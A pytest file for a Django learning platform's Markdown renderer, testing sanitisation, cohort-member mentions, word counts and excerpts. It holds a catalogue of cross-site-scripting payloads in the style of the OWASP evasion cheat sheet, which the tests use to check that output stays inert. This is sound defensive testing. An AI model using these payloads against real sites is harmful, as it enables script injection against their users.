"""Post rendering: Markdown a learner writes becomes HTML no other learner can
be attacked with, mentions link to cohort members, and plain-text helpers
ignore Markdown syntax."""

from __future__ import annotations

import re
from html.parser import HTMLParser

import pytest
from django.utils.safestring import SafeString
from hypothesis import given, settings
from hypothesis import strategies as st

from core.markdown import (
    ALLOWED_TAGS,
    excerpt,
    extract_mentions,
    render_markdown,
    sanitize_html,
    word_count,
)

MEMBERS = {"alice": "/people/alice/", "bob.smith": "/people/bob.smith/"}


def member_url(handle):
    return MEMBERS.get(handle)


# ----------------------------------------------------------------------------
# What "not executable" means, checked on the output with the stdlib parser
# (so not with the sanitiser's own idea of HTML).

FORBIDDEN_TAGS = {
    "script", "iframe", "frame", "frameset", "object", "embed", "applet", "style", "link",
    "base", "meta", "form", "input", "button", "textarea", "select", "svg", "math",
    "img", "image", "video", "audio", "source", "template", "noscript", "xss", "body", "html",
}  # fmt: skip
URL_ATTRIBUTES = {"href", "src", "action", "formaction", "data", "xlink:href", "background", "poster"}
SAFE_SCHEMES = {"http", "https", "mailto"}
# Browsers drop tab/CR/LF anywhere in a URL and C0 controls/space around it.
_IGNORED_IN_URL = re.compile(r"[\x00-\x20\x7f]")
_SCHEME = re.compile(r"([a-z][a-z0-9+.-]*):")


class _TagCollector(HTMLParser):
    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.elements: list[tuple[str, list[tuple[str, str | None]]]] = []

    def handle_starttag(self, tag, attrs):
        self.elements.append((tag, attrs))

    handle_startendtag = handle_starttag


def elements_of(html):
    parser = _TagCollector()
    parser.feed(html)
    parser.close()
    return parser.elements


def assert_not_executable(html):
    for tag, attrs in elements_of(html):
        assert tag not in FORBIDDEN_TAGS, html
        assert tag in ALLOWED_TAGS, html
        for name, value in attrs:
            assert not name.startswith("on"), html
            assert name not in {"style", "srcdoc", "formaction", "target"}, html
            if name in URL_ATTRIBUTES:
                # The parser has already decoded character references once, as a browser does.
                url = _IGNORED_IN_URL.sub("", value or "").lower()
                scheme = _SCHEME.match(url)
                assert scheme is None or scheme.group(1) in SAFE_SCHEMES, html


# ----------------------------------------------------------------------------
# Payloads, OWASP XSS Filter Evasion Cheat Sheet style, plus Markdown-specific ones.

B64_SCRIPT = "PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="
XSS_PAYLOADS = [
    ("script-tag", "<script>alert(1)</script>"),
    ("script-tag-mid-paragraph", "hello <script>alert(1)</script> world"),
    ("script-src-uppercase", "<SCRIPT SRC=https://xss.example/xss.js></SCRIPT>"),
    ("script-unclosed", "<script src=https://xss.example/x.js?<b>"),
    ("script-nested-broken", "<<script>alert(1);//<</script>"),
    ("script-after-quote-break", '<IMG """><SCRIPT>alert("XSS")</SCRIPT>">'),
    ("script-in-heading", "# <script>alert(1)</script>"),
    ("script-in-table-cell", "| a |\n|---|\n| <script>alert(1)</script> |"),
    ("img-onerror", "<img src=x onerror=alert(1)>"),
    ("img-javascript-src", "<IMG SRC=\"javascript:alert('XSS');\">"),
    ("img-backtick-src", "<IMG SRC=`javascript:alert(\"RSnake says, 'XSS'\")`>"),
    ("img-cr-entity-in-scheme", '<img src="jav&#x0D;ascript:alert(1)">'),
    ("svg-onload", "<svg onload=alert(1)>"),
    ("svg-slash-onload", "<svg/onload=alert(1)>"),
    ("svg-style-img-mxss", "<svg><p><style><img src=x onerror=alert(1)></style></p></svg>"),
    ("math-mglyph-style-mxss", "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>"),
    ("math-href", '<math href="javascript:alert(1)">CLICKME</math>'),
    ("noscript-title-mxss", '<noscript><p title="</noscript><img src=x onerror=alert(1)>">'),
    ("comment-breakout", '<!--<img src="--><img src=x onerror=alert(1)//">'),
    ("template-script", "<template><script>alert(1)</script></template>"),
    ("iframe-javascript", '<iframe src="javascript:alert(1)"></iframe>'),
    ("iframe-srcdoc", '<iframe srcdoc="<script>alert(1)</script>"></iframe>'),
    ("object-data", '<object data="javascript:alert(1)"></object>'),
    ("embed-data-svg", f'<embed src="data:image/svg+xml;base64,{B64_SCRIPT}">'),
    ("style-expression", '<div style="width: expression(alert(1))">x</div>'),
    ("style-url-javascript", '<div style="background-image: url(javascript:alert(1))">x</div>'),
    ("style-behavior", '<xss style="behavior: url(xss.htc);">x</xss>'),
    ("style-tag-import", "<style>@import 'https://xss.example/x.css';</style>"),
    ("link-import", "<link rel=import href=https://xss.example/x.html>"),
    ("body-onload", "<body onload=alert(1)>"),
    ("details-ontoggle", "<details open ontoggle=alert(1)>x</details>"),
    ("input-autofocus-onfocus", "<input autofocus onfocus=alert(1)>"),
    ("base-href", '<base href="javascript:alert(1)//">'),
    ("meta-refresh", '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">'),
    ("form-action", '<form action="javascript:alert(1)"><button>go</button></form>'),
    ("button-formaction", "<button formaction=javascript:alert(1)>go</button>"),
    ("raw-anchor-javascript", '<a href="javascript:alert(1)">click</a>'),
    ("raw-anchor-onclick", 'see <a href="https://ok.example" onclick="alert(1)">here</a>'),
    ("raw-anchor-vbscript", '<a href="vbscript:msgbox(1)">click</a>'),
    ("raw-anchor-control-char", '<a href="&#14;javascript:alert(1)">click</a>'),
    ("md-link-javascript", "[x](javascript:alert(1))"),
    ("md-link-mixed-case", "[x](JaVaScRiPt:alert(1))"),
    ("md-link-padded", "[x](   javascript:alert(1)   )"),
    (
        "md-link-decimal-entities",
        "[x](&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1))",
    ),
    ("md-link-hex-entity", "[x](&#x6A;avascript:alert(1))"),
    ("md-link-named-colon-entity", "[x](javascript&colon;alert(1))"),
    ("md-link-tab-entity", "[x](jav&#x09;ascript:alert(1))"),
    ("md-link-newline-entity", "[x](jav&#x0A;ascript:alert(1))"),
    ("md-link-leading-space-entity", "[x](&#x20;javascript:alert(1))"),
    ("md-link-angle-tab", "[x](<java\tscript:alert(1)>)"),
    ("md-link-angle-nul", "[x](<java\x00script:alert(1)>)"),
    ("md-link-zero-width-space", "[x](java\u200bscript:alert(1))"),
    ("md-link-fullwidth", "[x](\uff4a\uff41\uff56\uff41\uff53\uff43\uff52\uff49\uff50\uff54:alert(1))"),
    ("md-link-unicode-escape", "[x](\\u006Aavascript:alert(1))"),
    ("md-link-percent-colon", "[x](javascript%3Aalert(1))"),
    ("md-link-vbscript", "[x](vbscript:msgbox(1))"),
    ("md-link-file", "[x](file:///etc/passwd)"),
    ("md-link-data-html", f"[x](data:text/html;base64,{B64_SCRIPT})"),
    ("md-reference-javascript", "[x][1]\n\n[1]: javascript:alert(1)"),
    ("md-autolink-javascript", "<javascript:alert(1)>"),
    ("md-autolink-mixed-case", "<JaVaScRiPt:alert(1)>"),
    ("md-autolink-vbscript", "<vbscript:msgbox(1)>"),
    ("md-autolink-data", f"<data:text/html;base64,{B64_SCRIPT}>"),
    ("md-image-javascript", "![x](javascript:alert(1))"),
    ("md-image-data-svg", f"![x](data:image/svg+xml;base64,{B64_SCRIPT})"),
    ("md-image-data-png", "![x](data:image/png;base64,iVBORw0KGgo=)"),
    ("md-image-onerror-alt", '![x" onerror="alert(1)](https://ok.example/a.png)'),
    ("md-link-title-double-quote", '[x](https://ok.example "t\\" onmouseover=\\"alert(1)")'),
    ("md-link-title-single-quote", "[x](https://ok.example 'a\" onclick=\"alert(1)')"),
    ("md-link-href-quote-break", '[x](https://ok.example/"onmouseover="alert(1))'),
    ("md-link-label-raw-img", "[<img src=x onerror=alert(1)>](https://ok.example)"),
    ("md-code-span-breakout", "`</code><script>alert(1)</script>`"),
    ("md-fence-info-breakout", '```" onmouseover="alert(1)\nx\n```'),
    ("md-fence-script-content", "```html\n<script>alert(1)</script>\n```"),
    ("md-autolink-email-quote", '<a@b.c"onmouseover="alert(1)>'),
    ("mention-breakout", '@alice"><script>alert(1)</script>'),
]


@pytest.mark.parametrize("payload", [p for _, p in XSS_PAYLOADS], ids=[i for i, _ in XSS_PAYLOADS])
def test_a_hostile_post_renders_nothing_executable(payload):
    html = render_markdown(payload, mention_url=member_url)

    assert_not_executable(html)


@pytest.mark.parametrize("payload", [p for _, p in XSS_PAYLOADS], ids=[i for i, _ in XSS_PAYLOADS])
def test_the_sanitiser_alone_holds_if_markdown_ever_passed_raw_html(payload):
    assert_not_executable(sanitize_html(payload))


def test_there_are_enough_payloads_to_mean_something():
    assert len(XSS_PAYLOADS) >= 30
    assert len({i for i, _ in XSS_PAYLOADS}) == len(XSS_PAYLOADS)


_FRAGMENTS = st.sampled_from(
    [p for _, p in XSS_PAYLOADS]
    + ["[", "](", ")", "<", ">", '"', "'", "`", "```", "\n", " ", "javascript:", "&#x09;", "@alice", "*", "!"]
)


@settings(max_examples=300, deadline=None)
@given(st.lists(_FRAGMENTS, max_size=8).map("".join))
def test_stitched_together_payloads_stay_harmless(text):
    assert_not_executable(render_markdown(text, mention_url=member_url))


def test_a_mention_url_cannot_smuggle_a_script_link():
    html = render_markdown("hi @alice", mention_url=lambda handle: "javascript:alert(1)")

    assert_not_executable(html)
    assert "javascript" not in html


# ----------------------------------------------------------------------------
# What a learner sees


def test_the_result_can_go_straight_into_a_template():
    assert isinstance(render_markdown("hi"), SafeString)
    assert render_markdown("") == ""


def test_emphasis_strong_and_strikethrough():
    html = render_markdown("*so* **very** ~~wrong~~")

    assert html == "<p><em>so</em> <strong>very</strong> <s>wrong</s></p>\n"


def test_lists_keep_their_start_number():
    html = render_markdown("- one\n- two\n\n3. three\n4. four")

    assert "<ul>\n<li>one</li>\n<li>two</li>\n</ul>" in html
    assert '<ol start="3">\n<li>three</li>' in html


def test_raw_html_is_shown_as_text_not_dropped():
    html = render_markdown("Use <b>bold</b> & <script>x</script>")

    assert html == "<p>Use &lt;b&gt;bold&lt;/b&gt; &amp; &lt;script&gt;x&lt;/script&gt;</p>\n"


def test_code_is_escaped_and_keeps_its_language_class():
    html = render_markdown("```python\nif a < b:\n    print('<script>')\n```")

    assert html == (
        "<pre><code class=\"language-python\">if a &lt; b:\n    print('&lt;script&gt;')\n</code></pre>\n"
    )


def test_a_code_language_that_is_not_a_plain_name_is_dropped():
    html = render_markdown('```x" class="evil\ncode\n```')

    assert html == "<pre><code>code\n</code></pre>\n"


def test_links_are_nofollow_ugc_and_open_in_the_same_tab():
    html = render_markdown('[docs](https://docs.example/a?b=1&c=2 "The docs")')

    assert html == (
        '<p><a href="https://docs.example/a?b=1&amp;c=2" title="The docs" '
        'rel="nofollow noopener ugc">docs</a></p>\n'
    )


def test_autolinks_and_relative_links_work_bare_urls_stay_text():
    html = render_markdown("<https://a.example> [home](/cohorts/) <me@b.example> https://c.example")

    assert '<a href="https://a.example" rel="nofollow noopener ugc">https://a.example</a>' in html
    assert '<a href="/cohorts/" rel="nofollow noopener ugc">home</a>' in html
    assert '<a href="mailto:me@b.example" rel="nofollow noopener ugc">me@b.example</a>' in html
    assert html.endswith(" https://c.example</p>\n")  # no linkify-it-py installed


def test_a_javascript_link_is_left_as_the_text_the_author_typed():
    assert render_markdown("[x](javascript:alert(1))") == "<p>[x](javascript:alert(1))</p>\n"


def test_images_become_links_to_the_image():
    html = render_markdown('![diagram](https://img.example/d.png "Flow")')

    assert html == (
        '<p><a href="https://img.example/d.png" title="Flow" rel="nofollow noopener ugc">diagram</a></p>\n'
    )
    assert "<img" not in render_markdown("[![badge](https://img.example/b.png)](https://ci.example)")


def test_headings_are_demoted_below_the_page_headings():
    html = render_markdown("# One\n## Two\n### Three\n#### Four\n###### Six")

    assert html == "<h3>One</h3>\n<h4>Two</h4>\n<h5>Three</h5>\n<h6>Four</h6>\n<h6>Six</h6>\n"


def test_tables_keep_alignment_without_style_attributes():
    html = render_markdown("| a | b |\n|:-:|--:|\n| 1 | 2 |")

    assert '<th align="center">a</th>' in html
    assert '<td align="right">2</td>' in html
    assert "style" not in html


# ----------------------------------------------------------------------------
# Mentions


def test_a_known_handle_links_to_the_member():
    html = render_markdown("thanks @alice.", mention_url=member_url)

    assert html == (
        '<p>thanks <a href="/people/alice/" class="mention" rel="nofollow noopener ugc">@alice</a>.</p>\n'
    )


def test_an_unknown_handle_stays_plain_text():
    assert render_markdown("hi @carol", mention_url=member_url) == "<p>hi @carol</p>\n"


def test_without_a_lookup_no_mention_is_linked():
    assert render_markdown("hi @alice") == "<p>hi @alice</p>\n"


def test_handles_may_contain_dots_but_not_trailing_punctuation():
    html = render_markdown("(@bob.smith), @alice!", mention_url=member_url)

    assert (
        '(<a href="/people/bob.smith/" class="mention" rel="nofollow noopener ugc">@bob.smith</a>),' in html
    )
    assert '<a href="/people/alice/" class="mention" rel="nofollow noopener ugc">@alice</a>!' in html


def test_mentions_in_code_links_and_email_addresses_are_not_linked():
    text = (
        "`@alice`\n\n    @alice\n\n[@alice](https://x.example) <https://x.example/@alice> alice@alice.example"
    )

    html = render_markdown(text, mention_url=member_url)

    assert 'class="mention"' not in html


def test_the_lookup_runs_once_per_handle():
    calls = []

    def lookup(handle):
        calls.append(handle)
        return MEMBERS.get(handle)

    render_markdown("@alice @alice @carol @alice", mention_url=lookup)

    assert calls == ["alice", "carol"]


def test_extract_mentions_lists_each_handle_once_in_order():
    text = "@bob.smith asked @alice; @Alice and @bob.smith agreed, cc @carol-x."

    assert extract_mentions(text) == ["bob.smith", "alice", "carol-x"]


def test_extract_mentions_ignores_code_links_and_email_addresses():
    text = (
        "mail alice@example.com, see `@bob` and\n\n```\n@carol\n```\n\n"
        "[@dave](https://x.example) https://x.example/@erin but @frank"
    )

    assert extract_mentions(text) == ["frank"]


def test_extract_mentions_ignores_too_short_and_too_long_handles():
    assert extract_mentions("@a @" + "x" * 41 + " @ok") == ["ok"]


def test_extract_mentions_of_a_post_without_mentions():
    assert extract_mentions("no one here") == []


# ----------------------------------------------------------------------------
# Plain-text helpers


def test_word_count_counts_what_a_reader_reads():
    text = "# Why\n\nI **strongly** think [this link](https://x.example/a/b) is — `code` too.\n\n- one\n- two"

    # Why / I strongly think this link is code too. / one two: the dash, the URL and the markers do not count.
    assert word_count(text) == 11


def test_word_count_of_nothing_is_zero():
    assert word_count("") == 0
    assert word_count("**  **\n\n---") == 0


def test_excerpt_is_plain_text_without_markdown():
    text = "## Summary\n\nThe *key* point: use [`git bisect`](https://git.example).\n\n> quoted"

    assert excerpt(text) == "Summary The key point: use git bisect. quoted"


def test_excerpt_cuts_at_a_word_and_marks_the_cut():
    text = "Peer review works best when feedback is specific, kind and actionable."

    assert excerpt(text, length=30) == "Peer review works best when…"
    assert len(excerpt(text, length=30)) <= 30


def test_excerpt_cuts_a_single_long_word_hard():
    assert excerpt("a" * 50, length=10) == "a" * 9 + "…"


def test_excerpt_leaves_short_text_alone():
    assert excerpt("Short and *sweet*", length=17) == "Short and sweet"
